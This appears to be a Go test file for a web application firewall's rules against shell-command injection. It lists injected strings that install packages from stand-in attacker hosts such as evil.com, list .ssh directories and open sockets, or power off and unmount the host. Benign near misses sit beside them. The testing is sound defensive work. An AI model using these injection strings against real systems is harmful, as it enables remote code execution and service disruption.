package waf

import (
	"strings"
	"testing"
)

// attack91Install are attack 91's installs from a source that is no
// registry name (npm ran the package's preinstall script as root), and
// their spellings: options before the source, a registry name before
// it, quotes in the word, npx, yarn, a line break and a backtick.
var attack91Install = []string{"x;npm i http://192.0.2.2:18913/x.tgz", "x;npm i evil.com/x.tgz", "x;npm i github:evil/pkg",
	"x;npm i git+https://evil.com/x.git", "x;npm install https://e.example/x.tgz", "x;npm i -g --unsafe-perm http://192.0.2.2/x.tgz",
	"x;npm i lodash github:evil/pkg", "x;n'p'm i evil.com/x.tgz", "x;npx github:evil/pkg", "x;pnpm add git+ssh://git@evil.com/x.git",
	"x;bun add file:../x", "x;npm i evil/pkg", "x && npm install https://e.example/x.tgz",
	"x\nnpm i github:evil/pkg", "`npm i github:evil/pkg`", "x;npm --prefix=/tmp i ./x.tgz",
	"x|pnpm dlx github:evil/pkg", "x;bun i \"https://e.example/x.tgz\""}

// attack91InstallBenign are near misses: a registry name after a
// separator (a forum post's instruction), a scoped name, prose after
// npm or yarn, knitting's yarn, a URL after a prose word, inline code in
// a sentence, and no separator.
var attack91InstallBenign = []string{"Run the tests; npm i lodash first", "x; npm i @types/node", "deps; npm install --save-dev typescript eslint",
	"x; npm i react@18.2.0", "Bug; npm install fails: see https://github.com/npm/cli/issues/1",
	"install with `npm i github:user/repo` today", "pnpm; add https://pnpm.io to bookmarks", "Q&A; npm is at https://www.npmjs.com",
	"bun; add flour and sugar", "x; npm install-guide.tgz", "x | npm i -D vitest", "x;pnpm add evil-pkg", "x;bun add evil-pkg",
	"npm i github:user/repo", "Notes; npm in CI: https://docs.npmjs.com/cli/ci"}

// attack91InstallCRS are those the CRS alone refuses in an argument
// (yarn, a path after a grouping).
var attack91InstallCRS = []string{"x;yarn add https://evil.com/x.tgz", "x;yarn global add gitlab:evil/pkg", "x;(npm i /tmp/x.tgz)"}

// attack91System are attack 91's lesser commands after a separator (they
// list files, mounts, sockets, open files, the shell's commands and
// variables, or stop the host) and their spellings.
var attack91System = []string{"x;vdir -a /root", "x;vdir /home/app/.ssh", "x;du -a /home", "x;cgexec -g cpu:/ id", "x;poweroff -f",
	"x;halt -f", "x;init 6", "x;telinit 0", "x;umount -a", "x;lsof", "x;ss -xp", "x;findmnt", "x;lsblk", "x;compgen -c",
	"x;compgen -v", "x;readonly -p", "x;l's'of -i", "`lsblk`", "x;(findmnt)", "x;vdir ~/.ssh"}

// attack91SystemBenign are near misses: the prose words alone or before a
// word, the others before a word, a runlevel's digit before a word.
var attack91SystemBenign = []string{"Art; history", "the train will halt; passengers", "init; then run", "du; de la", "ss; the ship",
	"x; readonly fields", "x; init 2 repos", "Q&A; halt - stop", "the SS; ss-800 model", "notes; du -- de la", "`lsblk` lists disks", "Linux | lsblk output below", "history; 1999 to 2001"}

// attack91SystemCRS are those the CRS alone refuses in an argument.
var attack91SystemCRS = []string{"x;lsof /", "x && history -c", "x|mount --bind /a /b"}

// attack91ProseCRS are near misses the CRS alone refuses in an argument
// (its 932 rules read yarn, mount, lsof and history after a ';'), read
// by the operators alone.
var attack91ProseCRS = []string{"Knitting; yarn add wool/silk for sheen", "a; mount Everest", "Tools; lsof lists open files",
	"menu; history, mount, du"}

// TestAttack91Shell: rules 210226 and 210227 refuse attack 91's installs
// from a URL and its lesser commands, in the query and JSON, where the
// CRS alone lets them through, and no near miss.
func TestAttack91Shell(t *testing.T) {
	// every reading stays in its window: a long word or many of them after
	// the verb ends it
	long := "x;npm i " + strings.Repeat("a", 200) + " https://e/x.tgz"
	many := "x;npm i" + strings.Repeat(" lodash", 30) + " https://e/x.tgz"
	for _, v := range []string{long, many} {
		if shellPkgInstall(v) {
			t.Errorf("210226 reads beyond its window in %.40q", v)
		}
	}
	for _, v := range attack91ProseCRS {
		if shellPkgInstall(v) || shellSysCommand(v) {
			t.Errorf("210226 or 210227 matches the benign %q", v)
		}
	}
	operatorTable(t, "210226", shellPkgInstall, attack91Install, attack91InstallCRS, attack91InstallBenign)
	operatorTable(t, "210227", shellSysCommand, attack91System, attack91SystemCRS, attack91SystemBenign)
}
